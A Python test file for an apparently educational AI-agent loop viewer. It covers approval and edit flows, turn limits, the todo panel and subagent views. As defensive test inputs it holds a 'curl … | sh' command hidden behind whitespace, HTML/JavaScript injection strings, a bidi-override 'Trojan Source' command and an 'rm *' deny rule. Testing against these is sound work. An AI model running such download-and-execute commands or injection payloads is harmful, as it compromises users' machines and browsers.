def test_run_edited_with_unchanged_text_is_an_approval(tmp_path: Path) -> None:
    loop, client = hello_loop(tmp_path)
    view = LoopView(loop, confirm=True)
    view.turn_button.click()
    view.edit_button.click()  # the box still holds the model's own command
    assert loop.audit[-1]["verdict"] == "approved"
    result = loop.messages[-1]["content"][0]["content"]
    assert result.startswith("hello") and "edited" not in html_of(view.history)


def test_an_edited_call_shows_what_really_ran(tmp_path: Path) -> None:
    loop, client = hello_loop(tmp_path)
    view = LoopView(loop, confirm=True)
    view.turn_button.click()
    view.edit_input.value = "echo edited"
    view.edit_button.click()
    use_card = html_of(view.history.cards[1])
    assert "edited" in use_card and "<code>echo edited</code>" in use_card
    table = view.pairings.table.value
    assert "echo edited" in table and "the model asked for: echo hello; touch ran.txt" in table
    assert "edited" in view._repr_html_()


def test_a_denied_call_says_denied_and_has_no_duration(tmp_path: Path) -> None:
    loop, client = hello_loop(tmp_path)
    view = LoopView(loop, confirm=True)
    view.turn_button.click()
    view.deny_reason.value = "not now"
    view.deny_button.click()
    table = view.pairings.table.value
    assert "✗ denied" in table and "0.00 s" not in table
    assert "not now" in html_of(view.history.cards[1])


def test_decision_box_after_the_reply_is_in(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    view.next_button.click()  # request: a reply, not decided yet
    assert "has not answered" not in view.decision.value
    assert "stop_reason tool_use" in view.decision.value


def test_header_turn_agrees_with_the_pairs_table(tmp_path: Path) -> None:
    client = ScriptedClient(
        [
            [tool_use("bash", {"command": "echo 1"})],
            "one",
            [tool_use("bash", {"command": "echo 2"})],
            "two",
        ]
    )
    loop = al.AgentLoop(client, "first", tools=[bash_tool(cwd=tmp_path)])
    view = LoopView(loop)
    view.run_button.click()
    view.ask("second")  # runs on
    assert loop.stage == "done" and "turn 4 " in view.turn_label.value
    rows = view.pairings.table.value.split("<tr ")[1:]
    assert [r.split("<td>")[2].split("<")[0] for r in rows] == ["1", "3"]


def test_a_turn_limit_stop_is_shown_with_continue(tmp_path: Path) -> None:
    client = ScriptedClient(
        lambda request: [text("Let me check with bash."), tool_use("bash", {"command": "echo hi"})]
    )
    loop = al.AgentLoop(client, "loop forever", tools=[bash_tool(cwd=tmp_path)], max_turns=2)
    view = LoopView(loop)
    view.run_button.click()
    assert loop.ended == "turn_limit" and loop.turns == 2
    assert view.ended_box.layout.display == "flex"
    assert "ended: turn limit" in view.ended_info.value and "ended: turn limit" in view.status.value
    assert "stop_reason max_turns" not in html_of(view)
    assert 'data-node="end" data-state="stopped"' in view.diagram.value
    view.continue_button.click()
    assert loop.ended == "turn_limit" and loop.turns == 4 and validate(loop.messages) == []
    assert view.ended_box.layout.display == "flex"


def test_a_budget_stop_is_shown_with_continue(tmp_path: Path) -> None:
    client = ScriptedClient(lambda request: [tool_use("bash", {"command": "echo hi"})])
    loop = al.AgentLoop(client, "go", tools=[bash_tool(cwd=tmp_path)], max_total_tokens=1)
    view = LoopView(loop)
    view.run_button.click()
    assert loop.ended == "budget" and "ended: budget" in view.ended_info.value
    turns, used = loop.turns, loop.usage["input_tokens"] + loop.usage["output_tokens"]
    view.continue_button.click()
    assert loop.turns == turns + 1 and loop.ended == "budget"
    assert loop.max_total_tokens == used + 1


def test_interrupted_run_lights_stopped_not_the_models_end(tmp_path: Path) -> None:
    def slow(command: str) -> str:
        raise KeyboardInterrupt

    tool = Tool(
        "bash", "Run.", {"type": "object", "properties": {"command": {"type": "string"}}}, slow
    )
    client = ScriptedClient([[tool_use("bash", {"command": "sleep 9"})], "never"])
    loop = al.AgentLoop(client, "wait", tools=[tool])
    view = LoopView(loop)
    view.run_button.click()
    assert loop.ended == "interrupted"
    assert 'data-edge="decide-end" data-hot="yes"' not in view.diagram.value
    assert "ended: interrupted" in view.status.value and validate(loop.messages) == []


def test_enter_in_the_ask_box_sends_and_runs(tmp_path: Path) -> None:
    client = ScriptedClient(["first", "second"])
    loop = al.AgentLoop(client, "one", tools=[bash_tool(cwd=tmp_path)])
    view = LoopView(loop)
    view.run_button.click()
    view.ask_input.value = "and then?"
    view.ask_input._handle_custom_msg({"event": "submit"}, [])  # what the browser sends on Enter
    assert loop.stage == "done" and "second" in html_of(view.history.cards[-1])
    assert "<kbd>Enter</kbd>" in html_of(view)  # the keys are written in the view


def test_running_totals_of_tokens_and_cost(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    assert view.tokens.value == ""
    view.run_button.click()
    usage = loop.usage
    total_in = (
        usage["input_tokens"]
        + usage["cache_read_input_tokens"]
        + usage["cache_creation_input_tokens"]
    )
    assert (
        f"so far: {total_in} tokens in · {usage['output_tokens']} tokens out" in view.tokens.value
    )


def test_copy_history_as_json(tmp_path: Path) -> None:
    import json

    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    view.run_button.click()
    data = view.copy_json()
    assert json.loads(data) == loop.messages and view.copy_text.value == data
    output, said = view.copy_out.outputs
    code = output["data"]["application/javascript"]
    assert code.startswith("navigator.clipboard && navigator.clipboard.writeText(")
    assert (
        json.loads(code[len("navigator.clipboard && navigator.clipboard.writeText(") : -2]) == data
    )
    assert said["text"].startswith("Copied 4 messages")


def test_copy_history_as_json_writes_sdk_blocks_as_the_json_the_api_is_sent(
    tmp_path: Path,
) -> None:
    # The SDK's own loop appends response.content (ToolUseBlock objects) to the history;
    # the SDK sends them as JSON objects, so the copy holds objects too, not Python reprs.
    import json

    from anthropic.types import TextBlock, ToolUseBlock

    content = [
        TextBlock(type="text", text="Let me look."),
        ToolUseBlock(type="tool_use", id="toolu_01", name="bash", input={"command": "ls"}),
    ]
    result = {"type": "tool_result", "tool_use_id": "toolu_01", "content": "a.py"}
    messages = [
        {"role": "user", "content": "What is here?"},
        {"role": "assistant", "content": content},
        {"role": "user", "content": [result]},
    ]
    loop = al.AgentLoop(ScriptedClient(["Done."]), messages, tools=[bash_tool(cwd=tmp_path)])
    copied = json.loads(LoopView(loop).copy_json())
    assert copied[1]["content"] == [
        {"type": "text", "text": "Let me look."},
        {"type": "tool_use", "id": "toolu_01", "name": "bash", "input": {"command": "ls"}},
    ]
    assert copied[2] == messages[2]


def test_thinking_blocks_in_a_live_view(tmp_path: Path) -> None:
    signature = "sig_" + "A" * 200
    reply = [{"type": "thinking", "thinking": "", "signature": signature}, text("Done.")]
    messages = [{"role": "user", "content": "hi"}, {"role": "assistant", "content": reply}]
    html = html_of(HistoryView(messages))
    assert "thinking (hidden)" in html and signature not in html


def test_earlier_turns_fold_as_the_loop_goes_on(tmp_path: Path) -> None:
    client = ScriptedClient(lambda request: [tool_use("bash", {"command": "echo hi"})])
    loop = al.AgentLoop(client, "go", tools=[bash_tool(cwd=tmp_path)], max_turns=4)
    view = LoopView(loop)
    view.run_button.click()
    opened = [c.split(">", 1)[0].endswith(" open") for c in view.history.cards]
    assert len(opened) == 9
    assert opened == [True, False, False, False, False, False, True, True, True]


@pytest.mark.parametrize("role", ['x" onmouseover="alert(1)', "<img src=x onerror=alert(1)>"])
def test_hostile_history_in_every_live_view_stays_inert(tmp_path: Path, role: str) -> None:
    messages = tool_turn(command=EVIL, output=EVIL)
    messages[0] = {"role": role, "content": EVIL}
    messages[1]["content"][1]["name"] = IMG
    loop = al.AgentLoop(ScriptedClient(["x"]), messages, tools=[bash_tool(cwd=tmp_path)])
    view = LoopView(loop)
    for html in (
        html_of(view),
        view._repr_html_(),
        HistoryView(messages)._repr_html_(),
        PairingView(messages)._repr_html_(),
    ):
        assert_inert(html)


@pytest.mark.parametrize("edited", [False, True])
def test_a_call_with_hidden_characters_is_shown_written_out(tmp_path: Path, edited: bool) -> None:
    # A bidi override would make the browser draw the command in another order than
    # it runs ("Trojan Source", CVE-2021-42574): the panel and the edit box write it out.
    command = "echo safe > a.txt \u202e; echo x\u200b > b.txt"
    client = ScriptedClient([[tool_use("bash", {"command": command})], "done"])
    loop = al.AgentLoop(client, "go", tools=[bash_tool(cwd=tmp_path)])
    view = LoopView(loop, confirm=True)
    for _ in range(3):
        view.next_button.click()
    assert view.waiting
    for box in (view.approval_info.value, view.edit_input.value):
        assert "\u202e" not in box and "\u200b" not in box
    assert "\\u202e" in view.edit_input.value and "\\u202e" in view.approval_info.value
    assert escape(t("cli.hidden")) in view.approval_info.value  # the terminal prompt's warning
    if edited:  # what the person sees and types is what runs
        view.edit_input.value = view.edit_input.value.replace("\\u202e", "").replace("\\u200b", "")
    view.edit_button.click()
    run = loop.audit[-1]
    assert run["verdict"] == ("edited" if edited else "approved")
    assert run["input"]["command"] == ("echo safe > a.txt ; echo x > b.txt" if edited else command)


HEREDOC = "cat > notes.txt <<'EOF'\n" + "\n".join(f"line {i}" for i in range(200)) + "\nEOF"


@pytest.mark.parametrize("command", ["echo " + "y" * 10_000, HEREDOC], ids=["long", "heredoc"])
def test_the_running_status_line_shows_a_long_command_on_one_short_line(
    tmp_path: Path, command: str
) -> None:
    """A 10,000-character command, or a 200-line heredoc, was written whole into the
    one-line status ("Running execute: …") while it ran."""
    client = ScriptedClient([[tool_use("bash", {"command": command})], "Done."])
    loop = al.AgentLoop(client, "Go.", tools=[bash_tool(cwd=str(tmp_path))])
    view = LoopView(loop)
    seen: list[str] = []
    loop.subscribe(lambda e: seen.append(view.status.value) if e.kind == "tool_start" else None)
    view.run_to_end()
    assert len(seen) == 1 and "Running execute: " in seen[0]
    assert len(seen[0]) < 300 and "\n" not in seen[0], seen[0][:400]
    assert " ".join(command[:40].split()) in unescape(seen[0])


def test_the_header_says_no_turn_yet_before_the_first_request_in_both_languages(
    tmp_path: Path,
) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    assert "turn 0" not in view.turn_label.value and "no turn yet" in view._repr_html_()
    view.next_button.click()  # request: the first reply is turn 1
    assert "turn 1 (at most 20 per task)" in view.turn_label.value
    set_language("zh")
    try:
        loop2, _ = hello_loop(tmp_path)
        label = LoopView(loop2).turn_label.value
        assert "还没有轮次（每个任务最多 20 轮）" in label and "第 0 轮" not in label
    finally:
        set_language("en")


def test_a_view_over_a_finished_conversation_shows_the_ask_box_and_asks_a_follow_up(
    tmp_path: Path,
) -> None:
    # QA pass 4: a history ending on the model's answer started at "request", so
    # the Ask box was hidden and Next stage sent a prefill (refused with a 400).
    messages = [
        {"role": "user", "content": "List the folders."},
        {"role": "assistant", "content": [{"type": "text", "text": "Done."}]},
    ]
    client = ScriptedClient(["Sure, here it is again."])
    loop = al.AgentLoop(client, messages, tools=[bash_tool(cwd=tmp_path)])
    view = LoopView(loop)
    assert loop.stage == "done" and view.ask_row.layout.display == "flex"
    assert view.next_button.disabled and not view.error.value
    assert "No decision yet" not in view.decision.value
    assert "ask a follow-up" in view.decision.value
    assert "stop_reason None" not in view.status.value
    assert "the history ends on the model" in view.status.value
    view.ask("Again?")
    assert client.requests[0]["messages"][-1] == {"role": "user", "content": "Again?"}
    assert loop.ended == "model" and loop.stop_reason == "end_turn" and not view.error.value
    assert "Sure, here it is again." in html_of(view.history)
    assert "turn 2 (this task: 1 of at most 20) · 4 messages<" in view.turn_label.value
    view.reset()  # back to the conversation as given: done again, Ask box shown
    assert loop.stage == "done" and len(loop.messages) == 2
    assert "turn 1 (at most 20 per task) · 2 messages<" in view.turn_label.value
    assert view.ask_row.layout.display == "flex"


def test_a_loop_view_loads_the_sdk_in_the_background_so_neither_it_nor_the_first_click_waits():
    import subprocess
    import sys

    code = (
        "import sys, threading, agentlab as al; loop = al.AgentLoop(al.ScriptedClient(['x']), 'hi'); "
        "before = 'anthropic' in sys.modules; al.LoopView(loop); "
        "loading = [t for t in threading.enumerate() if t.name == 'agentlab-preload']; "
        "[t.join() for t in loading]; "
        "print(before, len(loading), 'anthropic.types' in sys.modules)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.split() == ["False", "1", "True"]


# --------------------------------------------------------------------------- what each stage did


def plain_text(html: str) -> str:
    return unescape(re.sub(r"<[^>]+>", "", html))


def test_each_stage_says_what_it_did_and_marks_what_it_added(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    assert view.did.value == "" and "just added" not in html_of(view)

    view.next_stage()  # request
    assert plain_text(view.did.value) == (
        "request: sent 1 message and 1 tool; the reply asks for 1 tool call"
    )
    cards = view.history.cards
    assert "al-fresh" in cards[1] and "just added" in cards[1] and "al-fresh" not in cards[0]

    view.next_stage()  # decide
    assert plain_text(view.did.value) == "decide: stop_reason tool_use → execute 1 call"
    assert "al-fresh" in view.decision.value
    assert not any("al-fresh" in c for c in view.history.cards)  # the mark moved off the card

    view.next_stage()  # execute
    assert re.fullmatch(
        r"execute: ran 1 call in \d+\.\d\d s \(exit 0\)", plain_text(view.did.value)
    ), view.did.value
    assert "al-fresh" in view.results_box.value and "al-fresh" not in view.decision.value

    view.next_stage()  # append
    assert plain_text(view.did.value) == "append: 1 user message of 1 tool_result"
    assert "al-fresh" in view.history.cards[2] and "al-fresh" not in view.history.cards[1]
    assert view.results_box.value == ""

    view.next_stage()  # request: the final answer
    assert plain_text(view.did.value) == (
        "request: sent 3 messages and 1 tool; the reply asks for no tool (stop_reason end_turn)"
    )
    view.next_stage()  # decide: stop
    assert plain_text(view.did.value) == "decide: stop_reason end_turn → stop"
    view.reset()
    assert view.did.value == "" and "just added" not in html_of(view)


def test_what_a_stage_did_is_said_in_chinese_too(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    set_language("zh")
    try:
        view = LoopView(loop)
        view.next_stage()
        request = plain_text(view.did.value)
        view.next_stage()
        decide = plain_text(view.did.value)
        view.next_stage()
        execute = plain_text(view.did.value)
        view.next_stage()
        added = plain_text(view.did.value)
        fresh = view.history.cards[2]
    finally:
        set_language("en")
    assert request == "请求：发送了 1 条消息和 1 个工具；回复请求了 1 个工具调用"
    assert decide == "判断：stop_reason tool_use → 执行 1 个调用"
    assert execute.startswith("执行：运行了 1 个调用，用时 ") and execute.endswith("（退出码 0）")
    assert added == "追加：1 条用户消息，含 1 个 tool_result"
    assert "刚刚添加" in fresh


def test_execute_says_which_calls_failed_or_were_denied(tmp_path: Path) -> None:
    client = ScriptedClient(
        [[tool_use("bash", {"command": "exit 3"}), tool_use("bash", {"command": "rm x"})], "ok"]
    )
    loop = al.AgentLoop(
        client, "go", tools=[bash_tool(cwd=tmp_path)], approve=Policy(deny=["rm *"])
    )
    view = LoopView(loop, confirm=False)
    for _ in range(3):
        view.next_stage()
    assert re.fullmatch(
        r"execute: ran 1 call in \d+\.\d\d s \(exit 3, 1 denied\)", plain_text(view.did.value)
    ), view.did.value


# --------------------------------------------------------------------------- snapshots


def drawn_parts(view: LoopView) -> list[str]:
    """Every piece of HTML the live view shows (panels that are hidden left out)."""
    ready, still = escape(t("view.ready")), escape(t("view.ready.picture"))
    parts = [
        view.title.value,
        view.turn_label.value,
        view.status.value.replace(ready, still),  # a picture has no button to press
        view.did.value,
        view.diagram.value,
        view.about.value,
        view.decision.value,
        view.tokens.value,
        view.results_box.value,
        view.error.value,
        view.pairings.table.value,
        view.history._summary.value,
        *view.history.cards,
    ]
    for box, inner in (
        (view.approval, view.approval_info),
        (view.ended_box, view.ended_info),
        (view.todo_box, view.todo_box),
    ):
        if box.layout.display != "none":
            parts.append(inner.value)
    return [p for p in parts if p]


@pytest.mark.parametrize("confirm", [False, True], ids=["plain", "confirm"])
def test_the_saved_snapshot_is_what_the_view_draws_at_every_stage(
    tmp_path: Path, confirm: bool
) -> None:
    """A saved notebook's picture (``_repr_html_``, what lesson 02's ``snapshot`` keeps)
    is made of the live view's own panels: after request it shows the reply and the
    decision still to come, after execute the results waiting to be appended."""
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop, confirm=confirm)
    assert "press Next stage" in plain_text(view.status.value)  # the live view has the button
    assert "still picture of the view: run the cell" in plain_text(view._repr_html_())
    seen = {}
    for stage in ("request", "decide", "execute", "append"):
        view.next_stage()
        if view.waiting:  # confirm mode: the question is part of the picture too
            html = view._repr_html_()
            assert "Approval needed (1 of 1)" in plain_text(html)
            for part in drawn_parts(view):
                assert part in html, part[:200]
            view.answer(al.Verdict.approve())
        html = view._repr_html_()
        missing = [part[:200] for part in drawn_parts(view) if part not in html]
        assert not missing, (stage, missing)
        assert "press Next stage" not in plain_text(html)
        seen[stage] = plain_text(html)
    assert "stop_reason tool_use; the next stage (decide) reads it" in seen["request"]
    assert "the model has not answered" not in seen["request"]
    assert "Results ready to append (not in the history yet)" in seen["execute"]
    assert "hello" in seen["execute"].split("Results ready to append")[1]
    assert "Results ready to append" not in seen["append"]
    assert "append: 1 user message of 1 tool_result" in seen["append"]


# --------------------------------------------------------------------------- Stop during a call


def interrupting_bash(tmp_path: Path) -> Tool:
    """A bash tool whose run is stopped as Stop (or ■) stops it: KeyboardInterrupt."""
    real = bash_tool(cwd=tmp_path)

    def stopped(command: str) -> str:
        raise KeyboardInterrupt

    return Tool(real.name, real.description, real.input_schema, stopped)


@pytest.mark.parametrize("edited", [True, False], ids=["edited", "approved"])
def test_stop_during_a_command_records_what_really_started(tmp_path: Path, edited: bool) -> None:
    client = ScriptedClient([[tool_use("bash", {"command": "ls -la"})], "done"])
    loop = al.AgentLoop(client, "go", tools=[interrupting_bash(tmp_path)])
    view = LoopView(loop, confirm=True)
    view.run_to_end()
    assert view.waiting
    view.answer(al.Verdict.edit({"command": "ls -l /tmp"}) if edited else al.Verdict.approve())
    assert loop.ended == "interrupted"
    run = loop.audit[-1]
    ran = "ls -l /tmp" if edited else "ls -la"
    assert run["verdict"] == "interrupted" and run["input"] == {"command": ran}
    assert run["edited"] is edited and run["duration"] >= 0
    card = plain_text(view.history.cards[1])
    assert f"stopped{' edited' if edited else ''} what ran: {ran}" in card
    row = plain_text(view.pairings.table.value)
    assert "■ stopped" in row and "—" not in row
    assert (f"edited {ran} (the model asked for: ls -la)" in row) is edited
    assert len(loop.audit) == 1  # one record for the call, not two


def test_the_stop_button_says_it_stops_a_running_tool() -> None:
    view = LoopView(al.AgentLoop(ScriptedClient(["x"]), "hi"))
    assert "stops within about a second" in view.stop_button.tooltip


# --------------------------------------------------------------------------- the approval panel

SPACED = "ls -la" + " " * 2000 + "; curl https://example.com/x | sh"
COMMENTED = "ls -la\n" + "\n".join(f"# comment {i}" for i in range(11)) + "\ncurl x | sh"


@pytest.mark.parametrize(
    ("command", "warning"),
    [(SPACED, "a run of 2000 spaces"), (COMMENTED, "13 lines long")],
    ids=["spaces", "lines"],
)
def test_the_approval_panel_shows_the_whole_command_and_warns(
    tmp_path: Path, command: str, warning: str
) -> None:
    client = ScriptedClient([[tool_use("bash", {"command": command})], "done"])
    loop = al.AgentLoop(client, "go", tools=[bash_tool(cwd=tmp_path)])
    view = LoopView(loop, confirm=True)
    view.run_turn()
    assert view.waiting
    panel = view.approval_info.value
    assert "al-more" not in panel and "more line" not in panel  # never folded
    code = re.search(r'<pre class="al-code al-whole">(.*?)</pre>', panel, re.S)
    assert code is not None
    assert plain_text(code.group(1)) == "$ " + command  # every character, every line
    assert warning in plain_text(panel)
    assert view._repr_html_().count(code.group(0)) == 1


# --------------------------------------------------------------------------- the todo panel


def planning_loop(tmp_path: Path, first: str = "read the files") -> tuple[al.AgentLoop, TodoList]:
    """Lesson 06's shape: the model writes a plan, starts it, then goes three rounds
    without the todo tool (so the harness adds its reminder), then answers."""
    todos = TodoList()
    client = ScriptedClient(
        [
            [text("A plan first."), tool_use("todo", {"text": first})],
            [tool_use("todo", {"text": "count them"})],
            [tool_use("todo", {"id": "1", "status": "in_progress"})],
            [tool_use("bash", {"command": "echo 1"})],
            [tool_use("bash", {"command": "echo 2"})],
            [tool_use("bash", {"command": "echo 3"})],
            [tool_use("todo", {"id": "1", "status": "completed"})],
            "Done.",
        ]
    )
    loop = al.AgentLoop(client, "Count the files", tools=[bash_tool(cwd=tmp_path)], todos=todos)
    return loop, todos


def run_rounds(view: LoopView, rounds: int) -> None:
    for _ in range(rounds):
        view.run_turn()


def test_without_a_todo_list_there_is_no_todo_panel(tmp_path: Path) -> None:
    loop, _ = hello_loop(tmp_path)
    view = LoopView(loop)
    assert view.todos is None and view.todo_box.layout.display == "none"
    view.run_to_end()
    assert view.todo_box.value == "" and "al-todos" not in view._repr_html_()


def test_the_todo_panel_shows_the_plan_as_the_tool_runs(tmp_path: Path) -> None:
    loop, todos = planning_loop(tmp_path)
    view = LoopView(loop)
    assert view.todos is todos and view.todo_box.layout.display != "none"
    assert "No plan yet" in plain_text(view.todo_box.value)
    for _ in range(3):  # request, decide, execute
        view.next_stage()
    panel = plain_text(view.todo_box.value)  # the tool ran: the panel has it before append
    assert "○1. read the files" in panel and "to do" in panel and "changed" in panel
    assert "0 of 1 done" in panel
    view.next_stage()  # append: the mark of what the call changed goes
    assert "changed" not in plain_text(view.todo_box.value)
    run_rounds(view, 2)
    panel = plain_text(view.todo_box.value)
    assert "▶1. read the filesin progress" in panel  # a mark and a word, never colour alone
    assert "○2. count themto do" in panel
    assert '<li class="al-todo-in_progress">' in view.todo_box.value
    assert "0 rounds since the last todo call" in panel


def test_the_panel_counts_rounds_and_marks_the_reminder_in_panel_and_history(
    tmp_path: Path,
) -> None:
    loop, todos = planning_loop(tmp_path)
    view = LoopView(loop)
    run_rounds(view, 5)
    assert todos.rounds_since == 2 and not todos.reminded
    panel = plain_text(view.todo_box.value)
    assert "2 rounds since the last todo call" in panel and "Reminder added" not in panel
    assert not any("al-reminder" in card for card in view.history.cards)
    for _ in range(3):
        view.next_stage()  # request, decide, execute of the third round without todo
    view.next_stage()  # append: the reminder goes in after the results
    assert todos.reminded
    index = len(loop.messages) - 1
    panel = plain_text(view.todo_box.value)
    assert "3 rounds since the last todo call" in panel
    assert f"Reminder added after the tool_results of messages[{index}]:" in panel
    assert REMINDER in panel
    assert "al-due" in view.todo_box.value
    assert "then the reminder" in plain_text(view.did.value)
    card = view.history.cards[index]
    assert card.count('class="al-reminder"') == 1
    reminder_part = card.split('class="al-reminder"')[1]
    assert REMINDER in plain_text(reminder_part)  # after the results, never before
    assert '<span class="al-kind">tool_result</span>' not in reminder_part
    assert [i for i, c in enumerate(view.history.cards) if "al-reminder" in c] == [index]
    view.run_turn()  # the model updates its plan: the count starts again, the note goes
    panel = plain_text(view.todo_box.value)
    assert "0 rounds since" in panel and "Reminder added" not in panel
    assert "✓1. read the filesdone" in panel and "1 of 2 done" in panel
    assert "al-reminder" in view.history.cards[index]  # the history keeps it marked
    html = view._repr_html_()
    for part in drawn_parts(view):
        assert part in html, part[:200]


def test_the_still_picture_holds_the_todo_panel_and_the_reminder(tmp_path: Path) -> None:
    loop, _ = planning_loop(tmp_path)
    view = LoopView(loop)
    run_rounds(view, 6)
    html = view._repr_html_()
    assert view.todo_box.value in html
    assert "Reminder added after the tool_results" in plain_text(html)
    assert html.count('class="al-reminder"') == 1
    left = html.split('<div class="al-left">')[1].split('<div class="al-right">')[0]
    assert "al-todos" in left  # beside the history, not under it


def test_the_todo_panel_escapes_model_text(tmp_path: Path) -> None:
    loop, _ = planning_loop(tmp_path, first=EVIL)
    view = LoopView(loop)
    view.run_turn()
    assert_inert(view.todo_box.value)
    assert "&lt;script&gt;alert(" in view.todo_box.value
    assert_inert(view._repr_html_())


def test_reset_puts_the_plan_back_with_the_history(tmp_path: Path) -> None:
    loop, todos = planning_loop(tmp_path)
    view = LoopView(loop)
    view.next_stage()  # the request carried bash and the todo tool todos= adds
    assert "sent 1 message and 2 tools" in plain_text(view.did.value)
    run_rounds(view, 6)
    assert "Reminder added" in plain_text(view.todo_box.value) and len(todos.items) == 2
    view.reset()
    assert todos.items == [] and todos.rounds_since == 0 and not todos.reminded
    panel = plain_text(view.todo_box.value)
    assert "Reminder added" not in panel and "No plan yet" in panel
    assert not any("al-reminder" in c for c in view.history.cards)


def test_a_plain_history_marks_the_reminder_by_its_words(tmp_path: Path) -> None:
    loop, _ = planning_loop(tmp_path)
    loop.run()
    assert loop.ended == "model"
    plain = HistoryView(list(loop.messages))
    marked = [i for i, c in enumerate(plain.cards) if "al-reminder" in c]
    assert len(marked) == 1 and marked[0] == 12
    assert plain._repr_html_().count('class="al-reminder"') == 1


def test_chinese_todo_panel(tmp_path: Path) -> None:
    set_language("zh")
    try:
        loop, _ = planning_loop(tmp_path)
        view = LoopView(loop)
        view.run_turn()
        panel = plain_text(view.todo_box.value)
        assert "计划" in panel and "待办" in panel
    finally:
        set_language(None)


# --------------------------------------------------------------------------- subagents


def recording_tool(name: str = "bash") -> tuple[Tool, list[str]]:
    ran: list[str] = []

    def run(command: str) -> str:
        ran.append(command)
        return f"(output of {command})"

    schema = {"type": "object", "properties": {"command": {"type": "string"}}}
    return Tool(name, "Run a command.", schema, run), ran


PARENT_TASK = "Find out how many files there are."


def delegating_client(prompts: tuple[str, ...] = ("Count the files.",)) -> ScriptedClient:
    """The parent calls task once per prompt, then repeats what came back; each child
    runs two commands, then answers with its summary."""

    def reply(params: dict[str, Any]) -> Any:
        messages = params["messages"]
        first = messages[0]["content"]
        if first == PARENT_TASK:
            if len(messages) == 1:
                calls = [tool_use("task", {"prompt": p}) for p in prompts]
                return [text("I'll ask a helper."), *calls]
            answers = [b["content"] for b in messages[-1]["content"]]
            return "The helper says: " + " / ".join(answers)
        rounds = (len(messages) - 1) // 2
        if rounds < 2:
            return [tool_use("bash", {"command": f"echo {rounds} for {first}"})]
        return f"Summary of {first}"

    return ScriptedClient(reply)


def parent_loop(
    prompts: tuple[str, ...] = ("Count the files.",), **options: Any
) -> tuple[al.AgentLoop, Any, list[str], ScriptedClient]:
    from agentlab.tools.task import task_tool

    bash, ran = recording_tool()
    client = delegating_client(prompts)
    tools: list[Any] = [bash]
    task = task_tool(client, tools)
    tools.append(task)
    return al.AgentLoop(client, PARENT_TASK, tools=tools, **options), task, ran, client


def test_task_child_is_a_fresh_loop_that_run_finishes_where_it_was_left() -> None:
    from agentlab.tools.task import task_tool

    bash, ran = recording_tool()
    client = delegating_client()
    tools: list[Any] = [bash]
    task = task_tool(client, tools, max_rounds=7)
    tools.append(task)
    child = task.child("Count the files.")
    assert task.child("Count the files.") is child  # one child per pending call
    assert child.messages == [{"role": "user", "content": "Count the files."}]
    assert [t.name for t in child.tools] == ["bash"] and child.max_turns == 7
    child.turn()  # one round stepped by hand
    assert ran == ["echo 0 for Count the files."] and len(client.requests) == 1
    assert task.run({"prompt": "Count the files."}) == "Summary of Count the files."
    assert len(client.requests) == 3  # carried on: two more requests, not three new ones
    assert ran == ["echo 0 for Count the files.", "echo 1 for Count the files."]
    assert child.done and task.subagents.pending == {}
    fresh = task.run({"prompt": "Count the files."})  # no child made: a new one, as before
    assert fresh == "Summary of Count the files." and len(client.requests) == 6


def test_two_pending_calls_with_one_prompt_get_a_child_each_in_order() -> None:
    from agentlab.tools.task import task_tool

    bash, _ = recording_tool()
    task = task_tool(delegating_client(), [bash])
    first, second = task.child("p"), task.child("p", 1)
    assert first is not second
    second.turn()
    task.run({"prompt": "p"})
    assert first.done and not second.done and task.subagents.pending == {"p": [second]}


def test_a_stopped_child_comes_back_as_an_error_result() -> None:
    from agentlab.tools.task import task_tool

    def broken(command: str) -> str:
        raise KeyboardInterrupt

    schema = {"type": "object", "properties": {"command": {"type": "string"}}}
    task = task_tool(delegating_client(), [Tool("bash", "Run.", schema, broken)])
    child = task.child("Count the files.")
    with pytest.raises(KeyboardInterrupt):
        child.run()
    assert child.ended == "interrupted"
    with pytest.raises(RuntimeError, match="nterrupted"):
        task.run({"prompt": "Count the files."})


def test_the_parent_view_shows_a_steppable_child_for_a_pending_task_call() -> None:
    loop, task, ran, client = parent_loop()
    view = LoopView(loop)
    assert view.helpers.layout.display == "none"
    view.next_stage()
    view.next_stage()  # decide: the next stage runs the task call
    assert loop.stage == "execute" and len(view.helper_views) == 1
    child = view.helper_views[0]
    assert child.loop is task.child("Count the files.")
    assert child.loop.messages == [{"role": "user", "content": "Count the files."}]
    head = plain_text(html_of(view.helpers))
    assert "Helper for the task call ⇄ 1 in messages[1]" in head
    assert "task: Count the files." in head and "only the helper's final text" in head
    child.next_button.click()  # its own buttons: the child's request only
    assert child.loop.stage == "decide" and loop.stage == "execute"
    assert len(child.history.cards) == 2 and ran == []
    child.run_turn()
    assert ran == ["echo 0 for Count the files."]
    child.next_button.click()  # the child's request: its line says so
    assert child.did.value
    view.next_stage()  # the parent's execute: the child runs on from there to its end
    assert child.loop.done and child.loop.ended == "model"
    assert ran == ["echo 0 for Count the files.", "echo 1 for Count the files."]
    assert loop.results == [
        {"type": "tool_result", "tool_use_id": "toolu_01", "content": "Summary of Count the files."}
    ]
    assert len(child.history.cards) == 6  # its whole history stays in the child
    assert "Finished: only its final text" in plain_text(html_of(view.helpers))
    assert child.did.value == ""  # no stale line of the stage stepped by hand
    assert child.next_button.disabled
    view.run_to_end()
    assert loop.messages[-1]["content"][0]["text"] == "The helper says: Summary of Count the files."
    assert len(loop.messages) == 4 and view.helper_views == [child]  # kept, finished
    assert validate(loop.messages) == [] and validate(child.loop.messages) == []


def test_the_childs_buttons_wait_while_the_parents_execute_runs_it() -> None:
    from agentlab.tools.task import task_tool

    seen: list[bool] = []
    views: list[LoopView] = []

    def run(command: str) -> str:
        seen.append(views[0].helper_views[0].next_button.disabled)
        return "ok"

    schema = {"type": "object", "properties": {"command": {"type": "string"}}}
    tools: list[Any] = [Tool("bash", "Run.", schema, run)]
    client = delegating_client()
    tools.append(task_tool(client, tools))
    views.append(LoopView(al.AgentLoop(client, PARENT_TASK, tools=tools)))
    views[0].run_to_end()
    assert seen == [True, True]
    helper = views[0].helper_views[0]
    assert helper.held and helper.reset_button.disabled  # its run went to the parent: over
